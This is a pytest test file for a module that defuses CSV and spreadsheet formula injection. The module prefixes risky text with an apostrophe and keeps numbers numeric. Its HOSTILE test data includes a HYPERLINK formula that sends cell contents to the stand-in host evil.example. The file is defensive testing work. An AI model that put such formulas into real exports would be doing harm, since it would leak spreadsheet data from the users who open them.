"""Text that a spreadsheet could run as a formula leaves with an apostrophe; numbers leave as numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from malekort.domain.files.csv_cells import csv_row, keep_as_text, neutralise, restore

# What an attacker types as a comment or a name, per OWASP's CSV injection page.
HOSTILE = ('=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Tall fra fagsystemet", "12", "ny rutine = bedre", "2024-03", "..", ":"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_a_leading_apostrophe_is_doubled_only_where_restore_would_take_it() -> None:
    assert neutralise("'=1") == "''=1"
    assert neutralise("''") == "'''"
    assert neutralise("'sitat'") == "'sitat'"
    assert restore("'sitat'") == "'sitat'"


@given(st.text())
def test_restore_gives_back_every_text_neutralised(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_row_keeps_numbers_as_numbers_also_negative_ones() -> None:
    row = csv_row(["0301", -5, -2.5, None, "-2+3", 0])
    assert row == ["0301", -5, -2.5, "", "'-2+3", 0]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(row)
    assert out.getvalue() == "0301,-5,-2.5,,'-2+3,0\n"


def test_an_excel_text_starting_with_equals_stays_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append([HOSTILE[0], -3, "+1"])
    for line in sheet.iter_rows():
        keep_as_text(line)
    out = io.BytesIO()
    workbook.save(out)
    cells = load_workbook(io.BytesIO(out.getvalue())).active[1]  # type: ignore[index]
    assert [(c.value, c.data_type) for c in cells] == [(HOSTILE[0], "s"), (-3, "n"), ("+1", "s")]
